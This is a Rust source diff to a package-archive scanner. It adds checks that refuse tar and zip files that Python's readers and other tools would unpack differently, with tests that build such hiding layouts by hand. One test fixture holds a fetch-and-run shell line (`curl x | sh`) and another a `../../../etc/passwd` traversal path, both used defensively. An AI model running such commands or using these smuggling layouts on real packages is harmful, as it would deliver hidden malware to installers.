@@ -8,7 +8,14 @@
 //! Python (every member of a multi-member gzip stream, unknown entry types
 //! as regular files) or, where it cannot, the archive is refused
 //! ([`ArchiveError::Ambiguous`]: pax global headers that rename members, pax
-//! names set twice or against a GNU long name).
+//! names set twice or against a GNU long name, long names and pax headers
+//! only Python applies, links, directories and devices declaring data that
+//! Python reads as the next headers). Zips are read as Python's zipfile
+//! reads them: an entry marked as a symbolic link is a file holding its
+//! bytes. A zip whose central directory Python would find elsewhere or list
+//! otherwise than the zip crate, or whose local headers (what a streaming
+//! reader walks) name, compress or size an entry otherwise or hold one the
+//! directory does not list, is refused.
 //!
 //! Archives are read in memory, streaming through the decompressor, and never
 //! extracted to disk. Only regular files are collected; links and devices are
@@ -863,6 +870,41 @@ fn ambiguous_names<R: Read>(entry: &mut tar::Entry<'_, R>) -> Option<String> {
     None
 }
 
+/// Why a member's declared data would be read as headers by Python's
+/// tarfile, if it would. Python skips the data of regular files (and of
+/// types it does not know) only; after a link, directory, device or fifo it
+/// reads the next header where the data begins, while the tar crate (like
+/// GNU tar and node-tar) skips `size` bytes. A link declaring data could
+/// hide a whole member, `setup.py` included, from every reader but pip.
+fn data_python_does_not_skip<R: Read>(
+    entry: &tar::Entry<'_, R>,
+    typeflag: u8,
+    raw_path: &[u8],
+) -> Option<String> {
+    let size = entry.size();
+    if size == 0 {
+        return None;
+    }
+    let header_name = entry.header().as_old().name;
+    let header_name = header_name.split(|&b| b == 0).next().unwrap_or(&[]);
+    // Python's tarfile reads an old-style regular file named `x/` as a
+    // directory.
+    let old_style_dir = typeflag == 0 && (header_name.ends_with(b"/") || raw_path.ends_with(b"/"));
+    let what = match typeflag {
+        b'1' => "hard link",
+        b'2' => "symbolic link",
+        b'3' => "character device",
+        b'4' => "block device",
+        b'5' => "directory",
+        b'6' => "fifo",
+        _ if old_style_dir => "directory (an old-style file entry named with a trailing `/`)",
+        _ => return None,
+    };
+    Some(format!(
+        "a {what} entry declaring {size} bytes of data, which Python's tarfile reads as the next headers and other readers skip"
+    ))
+}
+
 /// Pax keywords a global header must not set: they change which file a
 /// member is, where it leads, or where its data ends.
 const GLOBAL_PAX_REFUSED: &[&str] = &["path", "linkpath", "size"];
@@ -984,10 +1026,35 @@ fn read_tar<R: Read>(
             }
             continue;
         }
-        if kind.is_pax_local_extensions() || kind.is_gnu_longname() || kind.is_gnu_longlink() {
-            continue;
+        // The tar crate applies long names and pax records only from a
+        // ustar or GNU header, and a Solaris `X` header never; Python's
+        // tarfile applies all of them whatever the header, so the next
+        // member would be unpacked under another name than it is read.
+        // (The ones the tar crate applied never reach this loop.)
+        let typeflag = entry.header().as_bytes()[156];
+        if kind.is_pax_local_extensions()
+            || kind.is_gnu_longname()
+            || kind.is_gnu_longlink()
+            || typeflag == b'X'
+        {
+            return Err(ArchiveError::Ambiguous {
+                member: name,
+                why: format!(
+                    "{}, which Python's tarfile applies to the next member and the tar crate does not",
+                    if typeflag == b'X' {
+                        "a Solaris pax header (type `X`)"
+                    } else if kind.is_pax_local_extensions() {
+                        "a pax header in an old-style tar header"
+                    } else {
+                        "a GNU long name in an old-style tar header"
+                    }
+                ),
+            });
         }
         if let Some(why) = ambiguous_names(&mut entry) {
+            return Err(ArchiveError::Ambiguous { member: name, why });
+        }
+        if let Some(why) = data_python_does_not_skip(&entry, typeflag, &raw_path) {
             return Err(ArchiveError::Ambiguous { member: name, why });
         }
         let path = member_path(&raw_path, at, c)?;
@@ -1077,6 +1144,221 @@ fn member_path(raw: &[u8], at: Within, c: &mut Collector) -> Result<String, Arch
     }
 }
 
+/// Where Python's zipfile finds a zip's central directory, and the file
+/// names it lists there, in order. Python takes the last end record in the
+/// file's final 64 KiB (no other check), puts the directory right before it
+/// (or before its zip64 records), reads as many entries as the directory's
+/// byte size holds (not its entry count), and shifts every offset by the
+/// data found before the directory's declared start.
+#[derive(Debug, PartialEq, Eq)]
+struct PythonZipView {
+    start_dir: u64,
+    concat: u64,
+    names: Vec<Vec<u8>>,
+}
+
+fn le16(b: &[u8], at: usize) -> u64 {
+    u64::from(u16::from_le_bytes([b[at], b[at + 1]]))
+}
+
+fn le32(b: &[u8], at: usize) -> u64 {
+    u64::from(u32::from_le_bytes(
+        b[at..at + 4].try_into().unwrap_or([0; 4]),
+    ))
+}
+
+fn le64(b: &[u8], at: usize) -> u64 {
+    u64::from_le_bytes(b[at..at + 8].try_into().unwrap_or([0; 8]))
+}
+
+/// [`PythonZipView`] of `bytes`, or why Python's zipfile would refuse them.
+fn python_zip_view(bytes: &[u8]) -> Result<PythonZipView, String> {
+    const EOCD: &[u8] = b"PK\x05\x06";
+    let len = bytes.len();
+    if len < 22 {
+        return Err("too short for an end record".into());
+    }
+    let eocd = if bytes[len - 22..].starts_with(EOCD) && bytes[len - 2..] == [0, 0] {
+        len - 22
+    } else {
+        let from = len.saturating_sub((1 << 16) + 22);
+        let at = memchr::memmem::rfind(&bytes[from..], EOCD)
+            .ok_or("no end record in the last 64 KiB")?;
+        if from + at + 22 > len {
+            return Err("end record cut short".into());
+        }
+        from + at
+    };
+    let rec = &bytes[eocd..eocd + 22];
+    let (mut size_cd, mut offset_cd) = (le32(rec, 12), le32(rec, 16));
+    let mut location = eocd as u64;
+    // Python assumes the zip64 end record sits right before its locator.
+    if eocd >= 20 + 56 && bytes[eocd - 20..].starts_with(b"PK\x06\x07") {
+        let z = &bytes[eocd - 76..eocd - 20];
+        if z.starts_with(b"PK\x06\x06") {
+            size_cd = le64(z, 40);
+            offset_cd = le64(z, 48);
+            location -= 76;
+        }
+    }
+    let start_dir = location
+        .checked_sub(size_cd)
+        .ok_or("central directory larger than the bytes before it")?;
+    let concat = start_dir
+        .checked_sub(offset_cd)
+        .ok_or("central directory offset past its place")?;
+    let dir = &bytes[start_dir as usize..location as usize];
+    let mut names = Vec::new();
+    let mut at = 0usize;
+    while at < dir.len() {
+        let h = dir
+            .get(at..at + 46)
+            .filter(|h| h.starts_with(b"PK\x01\x02"))
+            .ok_or("central directory entry truncated or without its signature")?;
+        let (n, m, k) = (
+            le16(h, 28) as usize,
+            le16(h, 30) as usize,
+            le16(h, 32) as usize,
+        );
+        let name = dir
+            .get(at + 46..at + 46 + n)
+            .ok_or("central directory entry truncated")?;
+        names.push(name.to_vec());
+        at += 46 + n + m + k;
+    }
+    Ok(PythonZipView {
+        start_dir,
+        concat,
+        names,
+    })
+}
+
+/// Checks that a zip shows every reader the same files: Python's zipfile
+/// (pip, zipimport) the same directory as the zip crate, and a streaming
+/// reader, which walks the local headers, the same names, methods and
+/// sizes, and no local header the directory does not list.
+fn check_zip_agrees(
+    bytes: &[u8],
+    zip: &mut zip::ZipArchive<Cursor<&[u8]>>,
+) -> Result<(), ArchiveError> {
+    let refuse = |member: &str, why: String| ArchiveError::Ambiguous {
+        member: member.to_string(),
+        why,
+    };
+    let py = python_zip_view(bytes).map_err(|why| {
+        refuse(
+            "(central directory)",
+            format!("Python's zipfile would not read this zip as the zip crate does ({why})"),
+        )
+    })?;
+    if py.start_dir != zip.central_directory_start() || py.concat != zip.offset() {
+        return Err(refuse(
+            "(central directory)",
+            format!(
+                "Python's zipfile reads the central directory at byte {} (offsets shifted by {}), the zip crate at byte {} (shifted by {})",
+                py.start_dir,
+                py.concat,
+                zip.central_directory_start(),
+                zip.offset()
+            ),
+        ));
+    }
+    if py.names.len() != zip.len() {
+        return Err(refuse(
+            "(central directory)",
+            format!(
+                "Python's zipfile lists {} entries, the zip crate {} (the directory's size and entry count disagree)",
+                py.names.len(),
+                zip.len()
+            ),
+        ));
+    }
+    let mut spans = Vec::with_capacity(zip.len());
+    for (i, py_name) in py.names.iter().enumerate() {
+        let f = zip
+            .by_index_raw(i)
+            .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
+        let name = String::from_utf8_lossy(f.name_raw()).into_owned();
+        if f.name_raw() != py_name.as_slice() {
+            return Err(refuse(
+                &name,
+                format!(
+                    "Python's zipfile names entry {i} {:?}",
+                    String::from_utf8_lossy(py_name)
+                ),
+            ));
+        }
+        let start = f.header_start() as usize;
+        let local = bytes
+            .get(start..start + 30)
+            .filter(|h| h.starts_with(b"PK\x03\x04"))
+            .ok_or_else(|| {
+                ArchiveError::Corrupt(format!(
+                    "entry {name:?}: no local header where the directory points"
+                ))
+            })?;
+        let (n, m) = (le16(local, 26) as usize, le16(local, 28) as usize);
+        let local_name = bytes.get(start + 30..start + 30 + n).unwrap_or(&[]);
+        if local_name != f.name_raw() {
+            return Err(refuse(&name, format!(
+                "its local header names it {:?}; a reader that walks the local headers would unpack another file",
+                String::from_utf8_lossy(local_name)
+            )));
+        }
+        let cd_start = f.central_header_start() as usize;
+        let method = bytes
+            .get(cd_start..cd_start + 46)
+            .map_or(u64::MAX, |h| le16(h, 10));
+        if le16(local, 8) != method {
+            return Err(refuse(
+                &name,
+                format!(
+                    "its local header says compression method {}, the central directory {method}",
+                    le16(local, 8)
+                ),
+            ));
+        }
+        // Without a data descriptor (flag bit 3) the local header carries
+        // the sizes a streaming reader trusts; 0xFFFFFFFF defers to zip64.
+        let (crc, csize, usize_) = (le32(local, 14), le32(local, 18), le32(local, 22));
+        if le16(local, 6) & 8 == 0
+            && csize != 0xFFFF_FFFF
+            && usize_ != 0xFFFF_FFFF
+            && (crc != u64::from(f.crc32()) || csize != f.compressed_size() || usize_ != f.size())
+        {
+            return Err(refuse(&name, format!(
+                "its local header declares {csize} compressed / {usize_} bytes (crc32 {crc:08x}), the central directory {} / {} (crc32 {:08x})",
+                f.compressed_size(),
+                f.size(),
+                f.crc32()
+            )));
+        }
+        let end = (start + 30 + n + m) as u64 + f.compressed_size();
+        spans.push((start as u64, end));
+    }
+    // A local header outside every listed entry's span is a file only a
+    // streaming reader unpacks.
+    spans.sort_unstable();
+    let mut from = 0u64;
+    let dir = zip.central_directory_start();
+    for &(start, end) in spans.iter().chain(std::iter::once(&(dir, dir))) {
+        if start > from {
+            let gap = &bytes[from as usize..(start.min(dir)) as usize];
+            if let Some(at) = memchr::memmem::find(gap, b"PK\x03\x04") {
+                return Err(refuse(
+                    "(local headers)",
+                    format!(
+                        "a local file header at byte {} belongs to no entry of the central directory; a reader that walks the local headers would unpack a file the directory does not list",
+                        from as usize + at
+                    ),
+                ));
+            }
+        }
+        from = from.max(end);
+    }
+    Ok(())
+}
+
 fn read_zip(
     bytes: &[u8],
     budget: &mut Budget,
@@ -1085,6 +1367,7 @@ fn read_zip(
 ) -> Result<(), ArchiveError> {
     let mut zip = zip::ZipArchive::new(Cursor::new(bytes))
         .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
+    check_zip_agrees(bytes, &mut zip)?;
     if zip.len() as u64 > budget.limits.max_members {
         return Err(ArchiveError::Limit {
             what: format!(
@@ -1107,16 +1390,9 @@ fn read_zip(
         if f.is_dir() || path.is_empty() {
             continue;
         }
-        if f.is_symlink() {
-            let mut target = Vec::new();
-            f.by_ref()
-                .take(4096)
-                .read_to_end(&mut target)
-                .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
-            c.link(&path, at, &String::from_utf8_lossy(&target), false)?;
-            continue;
-        }
-        let path = at.full(&path);
+        let marked_link = f.is_symlink();
+        let in_archive = path;
+        let path = at.full(&in_archive);
         // An inner archive's binary is not read past its probe, so its
         // declared size says nothing about memory; its text is capped as read.
         if at.depth == 0 && f.size() > budget.limits.max_member_bytes {
@@ -1139,6 +1415,21 @@ fn read_zip(
             budget.read_inner_member(&path, &mut f, Some(compressed), declared, Some(crc), false)?
         };
         drop(f);
+        if marked_link {
+            // Python's zipfile makes no links: pip (wheels and sdists alike)
+            // and zipimport take the entry as a file holding these bytes, so
+            // they are judged as that file; reading them only as a link's
+            // target let a stealer marked as a link in a wheel be allowed.
+            // Tools that do make links (Info-ZIP's unzip) read the bytes as
+            // a path, and when they can be one the link rules hold as well.
+            let target = String::from_utf8_lossy(&data).into_owned();
+            if data.len() <= 4096 && !target.contains(['\n', '\0']) {
+                c.link(&in_archive, at, &target, false)?;
+            }
+            c.package.notes.push(format!(
+                "{path}: a zip entry marked as a symbolic link; Python's zipfile (pip, zipimport) unpacks it as a regular file holding those bytes, and it is read as one"
+            ));
+        }
         emit(c, budget, path, data, at.depth)?;
     }
     Ok(())
@@ -1557,17 +1848,7 @@ mod tests {
     #[test]
     fn names_that_tar_readers_resolve_differently_are_refused() {
         // Raw blocks: a pax header, a GNU long name, then the member.
-        let block = |name: &str, kind: u8, data: &[u8]| {
-            let mut h = tar::Header::new_gnu();
-            h.set_entry_type(tar::EntryType::new(kind));
-            h.set_size(data.len() as u64);
-            h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
-            h.set_cksum();
-            let mut out = h.as_bytes().to_vec();
-            out.extend(data);
-            out.resize(out.len().div_ceil(512) * 512, 0);
-            out
-        };
+        let block = |name: &str, kind: u8, data: &[u8]| raw_block(gnu(), name, kind, data);
         let member = block("pkg/docs/notes.txt", b'0', b"x\n");
         let end = vec![0u8; 1024];
         let pax_then_long = [
@@ -1601,16 +1882,329 @@ mod tests {
         assert_eq!(paths(&p), ["pkg/setup.py"]);
     }
 
+    fn gnu() -> tar::Header {
+        tar::Header::new_gnu()
+    }
+
+    /// One tar entry as raw blocks: `header` (GNU, ustar or old-style) named
+    /// `name` (raw, so `..` and `x/` can be written), of type `kind`,
+    /// declaring and holding `data`.
+    fn raw_block(mut h: tar::Header, name: &str, kind: u8, data: &[u8]) -> Vec<u8> {
+        h.set_size(data.len() as u64);
+        // The byte itself: the tar crate writes `\0` as `0`.
+        h.as_old_mut().linkflag = [kind];
+        h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
+        h.set_cksum();
+        let mut out = h.as_bytes().to_vec();
+        out.extend(data);
+        out.resize(out.len().div_ceil(512) * 512, 0);
+        out
+    }
+
+    /// Python's tarfile skips the data of regular files only: after a link,
+    /// directory, device or fifo that declares data it reads the next
+    /// header from that data, where the tar crate skips it. Checked with
+    /// Python 3.11 on the same layout: it lists the hidden `setup.py`.
+    #[test]
+    fn data_that_python_reads_as_headers_is_refused() {
+        let hidden = raw_block(gnu(), "pkg/setup.py", b'0', b"import os\n");
+        let end = vec![0u8; 1024];
+        let readme = raw_block(gnu(), "pkg/README.md", b'0', b"# hi\n");
+        for (name, kind) in [
+            ("pkg/alias.py", b'1'),
+            ("pkg/alias.py", b'2'),
+            ("pkg/dev", b'3'),
+            ("pkg/dev", b'4'),
+            ("pkg/lib", b'5'),
+            ("pkg/fifo", b'6'),
+            ("pkg/lib/", b'\0'),
+        ] {
+            let tar = [
+                readme.clone(),
+                raw_block(gnu(), name, kind, &hidden),
+                end.clone(),
+            ]
+            .concat();
+            match read_archive(&tar, ArchiveFormat::Tar, &Limits::default()) {
+                Err(ArchiveError::Ambiguous { member, why }) => {
+                    assert_eq!(member, name);
+                    assert!(why.contains("declaring 1024 bytes"), "{why}");
+                }
+                other => panic!("type {kind}: expected a refusal, got {other:?}"),
+            }
+            // Declaring no data, the same entry is read as before.
+            let tar = [
+                readme.clone(),
+                raw_block(gnu(), name, kind, b""),
+                end.clone(),
+            ]
+            .concat();
+            let p = read_archive(&tar, ArchiveFormat::Tar, &Limits::default()).unwrap();
+            assert!(paths(&p).contains(&"pkg/README.md"), "type {kind}");
+            assert!(!paths(&p).contains(&"pkg/setup.py"), "type {kind}");
+        }
+        // A regular file's data is skipped by both: the hidden header is
+        // that file's content (a tar, so read as an inner archive under the
+        // file's path), not a member of the package.
+        let tar = [raw_block(gnu(), "pkg/blob.bin", b'0', &hidden), end].concat();
+        let p = read_archive(&tar, ArchiveFormat::Tar, &Limits::default()).unwrap();
+        assert_eq!(paths(&p), ["pkg/blob.bin/pkg/setup.py"]);
+    }
+
+    /// Long names and pax records the tar crate does not apply (in an
+    /// old-style header, or a Solaris `X` header) rename the next member
+    /// for Python's tarfile only. Checked with Python 3.11: it lists
+    /// `pkg/setup.py` for each.
+    #[test]
+    fn names_only_python_applies_are_refused() {
+        let member = raw_block(tar::Header::new_old(), "pkg/docs/notes.txt", b'0', b"x\n");
+        let end = vec![0u8; 1024];
+        let pax = b"21 path=pkg/setup.py\n";
+        for (case, first) in [
+            (
+                "v7 long name",
+                raw_block(
+                    tar::Header::new_old(),
+                    "././@LongLink",
+                    b'L',
+                    b"pkg/setup.py\0",
+                ),
+            ),
+            (
+                "v7 pax",
+                raw_block(tar::Header::new_old(), "pax", b'x', pax),
+            ),
+            ("Solaris pax", raw_block(gnu(), "pax", b'X', pax)),
+        ] {
+            let tar = [first, member.clone(), end.clone()].concat();
+            match read_archive(&tar, ArchiveFormat::Tar, &Limits::default()) {
+                Err(ArchiveError::Ambiguous { why, .. }) => {
+                    assert!(why.contains("Python's tarfile applies"), "{case}: {why}")
+                }
+                other => panic!("{case}: expected a refusal, got {other:?}"),
+            }
+        }
+        // An old-style header on its own is read as usual.
+        let p = read_archive(
+            &[member, end].concat(),
+            ArchiveFormat::Tar,
+            &Limits::default(),
+        );
+        assert_eq!(paths(&p.unwrap()), ["pkg/docs/notes.txt"]);
+    }
+
+    /// Python's zipfile has no links: pip and zipimport write an entry
+    /// marked as one as a file holding its bytes.
+    #[test]
+    fn a_zip_entry_marked_as_a_link_is_read_as_the_file_python_writes() {
+        use std::io::Write;
+        let zip_with_link = |target: &str| {
+            let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
+            let o = zip::write::SimpleFileOptions::default();
+            z.start_file("pkg/README.md", o).unwrap();
+            z.write_all(b"# hi\n").unwrap();
+            z.add_symlink("pkg/lib/util.py", target, o).unwrap();
+            z.finish().unwrap().into_inner()
+        };
+        let code = "import os\nos.system('curl x | sh')\n";
+        let p = read_archive(&zip_with_link(code), ArchiveFormat::Zip, &Limits::default()).unwrap();
+        assert_eq!(member(&p, "pkg/lib/util.py"), code.as_bytes());
+        assert!(
+            p.notes
+                .iter()
+                .any(|n| n.contains("pkg/lib/util.py: a zip entry marked as a symbolic link")),
+            "{:?}",
+            p.notes
+        );
+        // Bytes that can be a path are a link too, for tools that make one:
+        // its rules hold (here, an escape blocks).
+        let p = read_archive(
+            &zip_with_link("../README.md"),
+            ArchiveFormat::Zip,
+            &Limits::default(),
+        );
+        assert_eq!(member(&p.unwrap(), "pkg/lib/util.py"), b"../README.md");
+        match read_archive(
+            &zip_with_link("../../../etc/passwd"),
+            ArchiveFormat::Zip,
+            &Limits::default(),
+        ) {
+            Err(ArchiveError::Escape { member, .. }) => assert_eq!(member, "pkg/lib/util.py"),
+            other => panic!("expected an escape, got {other:?}"),
+        }
+    }
+
+    fn le32_at(b: &[u8], at: usize) -> usize {
+        le32(b, at) as usize
+    }
+
+    /// A zip's bytes before its central directory, and the directory's
+    /// entries.
+    fn zip_parts(z: &[u8]) -> (Vec<u8>, Vec<Vec<u8>>) {
+        let e = memchr::memmem::rfind(z, b"PK\x05\x06").unwrap();
+        let (size, off) = (le32_at(z, e + 12), le32_at(z, e + 16));
+        let mut entries = Vec::new();
+        let mut at = off;
+        while at < off + size {
+            let n = (le16(z, at + 28) + le16(z, at + 30) + le16(z, at + 32)) as usize;
+            entries.push(z[at..at + 46 + n].to_vec());
+            at += 46 + n;
+        }
+        (z[..off].to_vec(), entries)
+    }
+
+    fn end_record(count: usize, size: usize, offset: usize, comment: usize) -> Vec<u8> {
+        let mut e = b"PK\x05\x06\0\0\0\0".to_vec();
+        e.extend((count as u16).to_le_bytes());
+        e.extend((count as u16).to_le_bytes());
+        e.extend((size as u32).to_le_bytes());
+        e.extend((offset as u32).to_le_bytes());
+        e.extend((comment as u16).to_le_bytes());
+        e
+    }
+
+    /// Moves a directory entry's local header offset by `by`.
+    fn moved(entry: &[u8], by: usize) -> Vec<u8> {
+        let mut e = entry.to_vec();
+        let at = le32_at(&e, 42) + by;
+        e[42..46].copy_from_slice(&(at as u32).to_le_bytes());
+        e
+    }
+
+    /// Layouts where Python's zipfile, the zip crate and a streaming reader
+    /// list different files: each hides `pkg/lib/util.py` from the zip
+    /// crate. The same layouts built with Python (`mkzips.py`, session 16)
+    /// were listed by Python 3.11 with the hidden file, and allowed by the
+    /// build before this check.
+    #[test]
+    fn zips_that_readers_list_differently_are_refused() {
+        let carrier: [(&str, &[u8]); 2] =
+            [("pkg/README.md", b"# hi\n"), ("pkg/index.py", b"x = 1\n")];
+        let hijacked = [carrier[0], carrier[1], ("pkg/lib/util.py", b"import os\n")];
+        let (members, all) = zip_parts(&zip_of(&hijacked));
+        let n = all.len();
+        let dir: Vec<u8> = all.concat();
+        let first: Vec<u8> = all[..n - 1].concat();
+        let mut cases: Vec<(&str, Vec<u8>, &str)> = Vec::new();
+        // The entry count says two; the directory's size holds three.
+        cases.push((
+            "count",
+            [
+                members.clone(),
+                dir.clone(),
+                end_record(n - 1, dir.len(), members.len(), 0),
+            ]
+            .concat(),
+            "lists 3 entries",
+        ));
+        // The declared offset leads to a directory of two, the declared
+        // size (counted back from the end record, as Python does) to one of
+        // three; Python shifts offsets by the gap, so the file is padded.
+        let pad = first.len();
+        let first_moved: Vec<u8> = all[..n - 1].iter().flat_map(|e| moved(e, pad)).collect();
+        cases.push((
+            "two directories",
+            [
+                vec![b' '; pad],
+                members.clone(),
+                first_moved,
+                dir.clone(),
+                end_record(n - 1, dir.len(), pad + members.len(), 0),
+            ]
+            .concat(),
+            "reads the central directory at byte",
+        ));
+        // Python's end record (the last in the file) hides in the comment
+        // of the zip crate's, which skips it for its comment length.
+        let (carrier_members, carrier_dir) = zip_parts(&zip_of(&carrier));
+        let carrier_dir = carrier_dir.concat();
+        let at = members.len() + carrier_members.len() + carrier_dir.len() + 22;
+        let comment = [dir.clone(), end_record(n, dir.len(), at, 0xFFFF)].concat();
+        cases.push((
+            "two end records",
+            [
+                members.clone(),
+                carrier_members,
+                carrier_dir.clone(),
+                end_record(
+                    2,
+                    carrier_dir.len(),
+                    at - 22 - carrier_dir.len() - members.len(),
+                    comment.len(),
+                ),
+                comment,
+            ]
+            .concat(),
+            "reads the central directory at byte",
+        ));
+        // A local entry the directory does not list.
+        cases.push((
+            "hidden local entry",
+            [
+                members.clone(),
+                first.clone(),
+                end_record(n - 1, first.len(), members.len(), 0),
+            ]
+            .concat(),
+            "belongs to no entry of the central directory",
+        ));
+        // Local headers that disagree with the directory.
+        let plain = zip_of(&hijacked);
+        let local = memchr::memmem::find(&plain, b"pkg/lib/util.py").unwrap() - 30;
+        let mut renamed = plain.clone();
+        renamed[local + 30 + 13..local + 30 + 15].copy_from_slice(b"js");
+        cases.push((
+            "local name",
+            renamed,
+            "its local header names it \"pkg/lib/util.js\"",
+        ));
+        let mut method = plain.clone();
+        assert_eq!(method[local + 8], 8, "written deflated");
+        method[local + 8] = 0;
+        cases.push((
+            "local method",
+            method,
+            "compression method 0, the central directory 8",
+        ));
+        let mut size = plain.clone();
+        size[local + 22] ^= 1;
+        cases.push(("local size", size, "its local header declares"));
+        for (case, bytes, want) in cases {
+            match read_archive(&bytes, ArchiveFormat::Zip, &Limits::default()) {
+                Err(ArchiveError::Ambiguous { why, .. }) => {
+                    assert!(why.contains(want), "{case}: {why}")
+                }
+                other => panic!("{case}: expected a refusal, got {other:?}"),
+            }
+        }
+        // What real writers do is read: a plain zip, one behind a shebang
+        // line (a zipapp), one whose local header leaves its sizes to a
+        // data descriptor (flag bit 3, zeros), as streamed writes do.
+        let mut zipapp = b"#!/usr/bin/env python3\n".to_vec();
+        zipapp.extend(zip_of(&hijacked));
+        let mut streamed = plain.clone();
+        streamed[local + 6] |= 8;
+        streamed[local + 14..local + 26].fill(0);
+        for (case, bytes) in [("plain", plain), ("zipapp", zipapp), ("streamed", streamed)] {
+            let p = read_archive(&bytes, ArchiveFormat::Zip, &Limits::default());
+            assert_eq!(paths(&p.unwrap()).len(), 3, "{case}");
+        }
+    }
+
     #[test]
     fn a_bomb_in_the_tar_headers_is_refused_before_it_fills_memory() {
         // The tar reader gathers a GNU long name whole before it hands over
-        // the member it names, and skips a pipe's data on its own.
-        for kind in [tar::EntryType::GNULongName, tar::EntryType::Fifo] {
+        // the member it names, and skips on its own the data of a file
+        // without a name (`./`).
+        for (kind, name) in [
+            (tar::EntryType::GNULongName, &b"././@LongLink"[..]),
+            (tar::EntryType::Regular, &b"./"[..]),
+        ] {
             let mut b = tar::Builder::new(Vec::new());
             let mut h = tar::Header::new_gnu();
             h.set_entry_type(kind);
             h.set_size(4 << 20);
-            h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
+            h.as_old_mut().name[..name.len()].copy_from_slice(name);
             h.set_cksum();
             b.append(&h, std::io::repeat(b'a').take(4 << 20)).unwrap();
             let mut h = tar::Header::new_gnu();
